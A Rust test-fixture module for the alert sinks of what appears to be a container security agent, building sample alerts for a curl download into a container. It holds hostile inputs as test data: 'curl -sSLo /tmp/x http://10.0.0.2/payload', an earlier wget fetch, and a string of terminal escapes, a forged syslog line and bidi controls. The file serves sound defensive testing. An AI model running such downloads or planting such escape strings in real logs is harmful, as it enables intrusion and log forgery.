//! Messages for the tests of sinks: one as it should be, one as an attacker would like it.

mod notice;
mod pod;
mod scene;
mod correlation;
mod story;
mod snapshot;

use std::net::{IpAddr, Ipv4Addr};
use std::sync::Arc;

use jiff::Timestamp;
use sigma::Level;
use uuid::Uuid;

use crate::alert::{Action, Alert, Detection, Message, Place, Step};
use crate::event::{Body, Direction, Event, Protocol};
use crate::redact::Redactor;
use crate::sink::Origin;
use crate::state::container::{Confirmation, Container, Owner, Pod, Role, Runtime};
use crate::state::phase::Phase;
use crate::state::process::stream::{Stream, StreamKind};
use crate::state::process::{Executable, Process, ProcessKey, Session, Written};
use crate::state::standing::{Claim, Entry, Standing, Trick};

pub(crate) use correlation::correlated;
pub(crate) use notice::{
    aggregation, canary_failed, canary_well, cost, coverage, heartbeat, loss, refusal, reload, stopped,
    tampering,
};
pub(crate) use pod::in_pod;
pub(crate) use scene::{Log, PATIENCE, free_port, soon};
pub(crate) use snapshot::snapshot;
pub(crate) use story::chain;

const MILLISECOND: u64 = 1_000_000;
const ADDRESS: IpAddr = IpAddr::V4(Ipv4Addr::new(10, 0, 0, 2));

pub(crate) fn origin() -> Origin {
    Origin {
        hostname: "node-1".to_owned(),
        kernel: "6.18.5".to_owned(),
        boot: "2026-11-21T08:00:00Z".parse().unwrap(),
        boot_id: Some("9c1f7a52-20c4-4c1e-a6b0-4d1f6a3f0e11".to_owned()),
        agent_id: "5d0c2b7e-8f43-4a55-9a3e-0a4f0c9d1b22".parse().unwrap(),
        run_id: "e3b1d6f8-77aa-4f0e-8c66-9b2d5a7c3f33".parse().unwrap(),
        pid: 77,
        version: "0.1.0",
        redactor: Redactor::default(),
    }
}

fn time() -> Timestamp {
    "2026-11-21T12:03:14.281042123Z".parse().unwrap()
}

fn id() -> Uuid {
    "01932b9e-4c11-7abc-8def-0123456789ab".parse().unwrap()
}

pub(crate) fn container() -> Container {
    Container {
        id: "8f3a2c91d0b4".repeat(6)[..64].to_owned(),
        runtime: Runtime::Docker,
        name: Some("web-1".to_owned()),
        image: Some("nginx:1.25".to_owned()),
        image_id: None,
        image_digest: None,
        pod: None,
        pod_uid: None,
        role: Role::default(),
        probes: Vec::new(),
        nested: Vec::new(),
        confirmation: Confirmation::Known,
        awaits_pod: false,
    }
}

fn process(pid: u32, path: &str, arguments: &[&str], container: Option<&str>) -> Arc<Process> {
    let words: Vec<String> = arguments.iter().map(|argument| (*argument).to_owned()).collect();
    Arc::new(
        Process {
            key: ProcessKey { pid, start_time: u64::from(pid) * MILLISECOND },
            parent: None,
            executable: Executable { path: path.to_owned(), ..Executable::default() },
            arguments: words.as_slice().into(),
            arguments_truncated: false,
            command: None,
            session: Session::default(),
            directory: Some("/srv".to_owned()),
            comm: path.rsplit('/').next().unwrap_or(path).chars().take(15).collect(),
            uid: 0,
            gid: 0,
            effective_uid: 0,
            mnt_ns: 1,
            pid_ns: 2,
            cgroup_id: 3,
            container: container.map(Arc::from),
            standing: Standing::default(),
            exec_time: u64::from(pid) * MILLISECOND,
        }
        .understood(&words),
    )
}

pub(crate) fn detection() -> Detection {
    Detection {
        id: "6f2f0b5e-6f0a-4d0a-9e55-0c1f7a8a1d01".to_owned(),
        title: "curl downloads into a container".to_owned(),
        name: "curl_download".to_owned(),
        level: Level::High,
        techniques: vec!["T1105".to_owned()],
        tactics: vec!["command-and-control".to_owned()],
        false_positives: vec!["Images that fetch their configuration at start".to_owned()],
        response: vec![
            "Keep the file: docker cp web-1:/tmp/x .".to_owned(),
            "Ask the owner of the image whether this download is meant to happen; if nobody knows it, pause \
             the container and go on with the runbook for intrusions."
                .to_owned(),
        ],
    }
}

pub(crate) fn alert() -> Alert {
    let step = |milliseconds, action| Step {
        offset: milliseconds * MILLISECOND,
        pid: 4242,
        program: "curl".to_owned(),
        action,
    };
    let container = container();
    let inside = Some(container.id.as_str());
    Alert {
        id: id(),
        sequence: 7,
        is_amendment: false,
        time: time(),
        level: Level::High,
        detection: detection(),
        correlation: None,
        related: Vec::new(),
        story: story::story(),
        process: process(
            4242,
            "/usr/bin/curl",
            &["curl", "-sSLo", "/tmp/x", "http://10.0.0.2/payload"],
            inside,
        ),
        ancestors: vec![
            process(4240, "/bin/sh", &["sh", "-c", "curl -sSLo /tmp/x http://10.0.0.2/payload"], inside),
            process(900, "/usr/bin/containerd-shim-runc-v2", &["containerd-shim-runc-v2"], None),
        ],
        container: Some(Arc::new(container)),
        phase: Some(Phase::Steady),
        user: Some(Arc::from("root")),
        steps: vec![
            step(0, Action::Executed { arguments: "curl -sSLo /tmp/x http://10.0.0.2/payload".into() }),
            step(12, Action::Connected { place: place(None), direction: Direction::Outbound }),
            step(
                15,
                Action::Wrote { path: "/tmp/x".to_owned(), bytes: Some(1_258_291), size: Some(1_258_291) },
            ),
            step(19, Action::Disconnected { place: place(None), bytes_sent: 92, bytes_received: 1_258_291 }),
            step(20, Action::Exited { status: Some(0), signal: None }),
        ],
        steps_omitted: 0,
        bytes_omitted: (0, 0),
        pending: Vec::new(),
        redacted: 0,
    }
}

/// A program that started in a container.
pub(crate) fn event() -> Event {
    let Alert { process, ancestors, container, phase, user, .. } = alert();
    Event {
        time: 0,
        date: time(),
        process,
        ancestors,
        container,
        phase,
        user,
        sent_in_hour: None,
        baseline: None,
        body: Body::ProcessCreation,
    }
}

fn place(name: Option<&str>) -> Place {
    Place { protocol: Protocol::Tcp, address: ADDRESS, port: 80, name: name.map(Arc::from) }
}

/// The same with all that a connection can be: it has a name, another one was refused, and it goes on.
pub(crate) fn connections() -> Alert {
    let mut alert = alert();
    let refused = Place { port: 443, ..place(Some("files.example.com")) };
    let inbound = Place { port: 50_123, ..place(None) };
    let named = place(Some("files.example.com"));
    let actions = [
        (10, Action::Connected { place: refused.clone(), direction: Direction::Outbound }),
        (11, Action::Failed { place: refused, error: 111 }),
        (12, Action::Connected { place: named.clone(), direction: Direction::Outbound }),
        (600, Action::Connected { place: inbound, direction: Direction::Inbound }),
        (5_000, Action::Transferred { place: named, socket: 1, bytes_sent: 3 << 20, bytes_received: 92 }),
    ];
    let first = alert.steps.swap_remove(0);
    alert.steps = vec![first];
    alert.steps.extend(actions.into_iter().map(|(milliseconds, action)| Step {
        offset: milliseconds * MILLISECOND,
        pid: 4242,
        program: "curl".to_owned(),
        action,
    }));
    alert
}

/// The same from a program that is not in the image, at a terminal, in a place that is none of its own.
pub(crate) fn stranger() -> Alert {
    let mut alert = alert();
    let container = container();
    let written = Written {
        time: alert.process.exec_time - 3_000 * MILLISECOND,
        by: ProcessKey { pid: 4200, start_time: 1 },
        image: "/usr/bin/wget".to_owned(),
        arguments: "wget http://10.0.0.2/x".into(),
        received: Some(262_144),
    };
    let process = Arc::make_mut(&mut alert.process);
    (process.executable.upper_layer, process.executable.written) = (true, Some(Arc::new(written)));
    (process.session.login_uid, process.session.terminal) = (Some(1000), Some("pts/3".to_owned()));
    process.session.streams.input = Stream { kind: Some(StreamKind::Pipe), inode: 4711 };
    process.session.streams.output = Stream { kind: Some(StreamKind::Terminal), inode: 6 };
    process.standing.cgroup = Claim::Host;
    process.standing.mount = Claim::Container(Arc::from(container.id.as_str()));
    process.standing.trick = Some(Trick::CgroupLeft);
    alert.phase = Some(Phase::Interactive);
    let owner = Owner { kind: "Deployment".to_owned(), name: "web".to_owned() };
    alert.container = Some(Arc::new(Container {
        name: None,
        image_id: Some("sha256:ba9876543210".to_owned()),
        image_digest: Some("sha256:0123456789ab".to_owned()),
        nested: vec!["inner".to_owned(), "c0ffee".repeat(11)[..64].to_owned()],
        pod: Some(Pod {
            name: "web-0".to_owned(),
            namespace: "shop".to_owned(),
            uid: "u-1".to_owned(),
            owner: Some(owner),
            node: Some("node-1".to_owned()),
            ..Pod::default()
        }),
        confirmation: Confirmation::Unknown,
        ..container
    }));
    alert
}

pub(crate) fn message() -> Message {
    Message::Alert(Box::new(alert()))
}

/// Text that would clear a terminal, forge a line, end a field, and reorder what follows.
pub(crate) const HOSTILE: &str = "x\u{1b}[2J\u{1b}]0;owned\u{7}\n<10>1 - forged - - - - \r\t\0\u{9b}1;31m\u{202e}\u{2066}\u{2028}\"]\\ \u{e0041}é";

fn hostile_text() -> String {
    HOSTILE.repeat(24)
}

fn hostile_process(pid: u32) -> Arc<Process> {
    Arc::new(Process {
        executable: Executable {
            path: hostile_text(),
            invoked: Some(hostile_text() + "i"),
            applet: Some(hostile_text() + "a"),
            loaded: Some(hostile_text() + "l"),
            interpreter: Some(hostile_text()),
            memfd: true,
            deleted: true,
            upper_layer: true,
            written: Some(Arc::new(Written {
                time: 1,
                by: ProcessKey { pid: 7, start_time: 1 },
                image: hostile_text(),
                arguments: hostile_text().as_str().into(),
                received: Some(u64::MAX),
            })),
            file: None,
        },
        arguments: (0..6).map(|_| hostile_text()).collect::<Vec<_>>().into(),
        arguments_truncated: true,
        command: None,
        session: Session {
            login_uid: Some(4_000_000_000),
            terminal: Some(hostile_text()),
            environment: vec![hostile_text(); 8],
            by_thread: true,
            ..Session::default()
        },
        directory: Some(hostile_text()),
        comm: hostile_text(),
        effective_uid: 0,
        uid: 4_000_000_000,
        container: Some(Arc::from(hostile_text().as_str())),
        standing: Standing {
            cgroup: Claim::Container(Arc::from(hostile_text().as_str())),
            mount: Claim::Container(Arc::from(hostile_text().as_str())),
            pid: Claim::Container(Arc::from(hostile_text().as_str())),
            trick: Some(Trick::NamespaceEntered),
            entry: Entry::Exec { has_terminal: true },
        },
        ..(*process(pid, "/x", &[], None)).clone()
    })
}

/// Every text of an alert that a watched process or a rule's author controls, hostile and long.
pub(crate) fn hostile() -> Alert {
    let mut alert = alert();
    alert.process = hostile_process(u32::MAX);
    alert.ancestors = (1..17).map(hostile_process).collect();
    alert.user = Some(Arc::from(hostile_text().as_str()));
    alert.container = Some(Arc::new(Container {
        id: hostile_text(),
        name: Some(hostile_text()),
        image: Some(hostile_text()),
        image_id: Some(hostile_text()),
        image_digest: Some(hostile_text()),
        nested: vec![hostile_text(); 8],
        pod: Some(Pod {
            name: hostile_text(),
            namespace: hostile_text(),
            uid: hostile_text(),
            labels: (0..70)
                .map(|number| (format!("{number:02}{}", hostile_text()), hostile_text()))
                .collect(),
            owner: Some(Owner { kind: hostile_text(), name: hostile_text() }),
            node: Some(hostile_text()),
            service_account: Some(hostile_text()),
        }),
        ..container()
    }));
    alert.detection = Detection {
        id: hostile_text(),
        title: hostile_text(),
        name: hostile_text(),
        level: Level::Critical,
        techniques: (0..8).map(|_| hostile_text()).collect(),
        tactics: (0..8).map(|_| hostile_text()).collect(),
        false_positives: (0..8).map(|_| hostile_text()).collect(),
        response: (0..8).map(|_| hostile_text()).collect(),
    };
    alert.correlation = Some(correlation::hostile(&hostile_text()));
    alert.related = vec![alert.detection.clone(); 8];
    alert.story = story::hostile(&hostile_text());
    let steps = [
        Action::Executed { arguments: hostile_text().as_str().into() },
        Action::Opened { path: hostile_text() },
        Action::Connected { place: place(Some(&hostile_text())), direction: Direction::Unknown },
        Action::Failed { place: place(Some(&hostile_text())), error: 0 },
        Action::Wrote { path: hostile_text(), bytes: Some(u64::MAX), size: Some(0) },
        Action::Linked { from: hostile_text(), to: hostile_text() + "l" },
        Action::Deleted { path: hostile_text() },
        Action::MadeExecutable { path: hostile_text() },
        Action::Read { path: hostile_text() },
        Action::Renamed { from: hostile_text(), to: hostile_text() + "r" },
        Action::Did { deed: "query", object: hostile_text() },
        Action::Exited { status: None, signal: Some(9) },
    ];
    alert.steps.extend(steps.into_iter().cycle().take(59).map(|action| Step {
        offset: u64::MAX,
        pid: 1,
        program: hostile_text(),
        action,
    }));
    alert.pending = vec!["container.name", "container.image.name"];
    alert
}
